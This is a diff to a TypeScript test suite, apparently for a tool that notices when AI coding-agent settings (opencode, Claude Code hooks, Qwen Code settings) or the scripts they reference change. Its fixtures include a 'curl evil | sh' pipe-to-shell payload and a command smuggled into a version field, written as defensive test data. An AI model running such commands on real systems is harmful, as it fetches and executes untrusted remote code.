@@ -224,6 +224,7 @@ describe('a program that seen settings name', () => {
 		['opencode', 'opencode.json', '{"plugin": ["./x.js"]}', 'x.js'],
 		['opencode', '.opencode/opencode.jsonc', '{"plugin": ["../x.ts",], /**/}', 'x.ts'],
 		['opencode', '.opencode/plugin/a.ts', "export { default } from '../../src/x.ts';\n", 'src/x.ts'],
+		['claude-code', '.claude/hooks/a.sh', 'exec "$(dirname "$0")/../../x.sh"\n', 'x.sh'],
 	])('of %s, %s (%s), must be the same', async (driver, name, settings, program) => {
 		const look = await noted(driver, { [name]: settings, [program]: 'exit 0' });
 		repository.write({ [program]: 'curl evil | sh' });
@@ -279,9 +280,37 @@ describe('a program that seen settings name', () => {
 		['opencode', 'opencode.json', '{"permission": {"edit": {"src/x.ts": "allow"}}}', 'src/x.ts'],
 		['opencode', 'opencode.json', '{"agent": {"a": {"prompt": "See src/x.ts"}}, "instructions": ["x.py"]}', 'x.py'],
 		['opencode', '.opencode/plugin/a.js', 'export default x => x.ts;\n', 'x.ts'],
+		['claude-code', '.claude/hooks/a.sh', 'echo index\n', 'index.ts'],
 	])('is none: %s, %s (%s)', async (driver, name, settings, file) => {
 		const look = await noted(driver, { [name]: settings, [file]: 'a' });
 		repository.write({ [file]: 'b' });
 		await look();
+	});
+});
+
+describe('the version that Qwen Code 0.24.4 writes into its settings as it starts', () => {
+	const driver = drivers.find(({ id }) => id === 'qwen-code') ?? drivers[0]!;
+	const added = async (before: string, after: string) => {
+		const seen = new SeenSettings(folder.file('data'), repository.root);
+		repository.write({ '.qwen/settings.json': before });
+		await seen.note(driver);
+		repository.write({ '.qwen/settings.json': after });
+		await seen.require(driver);
+	};
+
+	it.each([
+		['{}', '{\n  "$version": 4\n}\n'],
+		['{"hooks": {"Stop": []}}', '{"hooks": {"Stop": []}, "$version": 4}'],
+		['{"$version": 3, "tools": {}}', '{"$version": 4, "tools": {}}'],
+	])('is no other setting: %s, %s', async (before, after) => {
+		await added(before, after);
+	});
+
+	it.each([
+		['keeps older keys from being read', '{"excludeTools": ["x"]}', '{"excludeTools": ["x"], "$version": 4}'],
+		['is no number', '{}', '{"$version": "sh x.sh"}'],
+		['comes with others', '{}', '{"$version": 4, "hooks": {}}'],
+	])('is one if it %s', async (_, before, after) => {
+		await expect(added(before, after)).rejects.toMatchObject({ code: 'not-trusted' });
 	});
 });
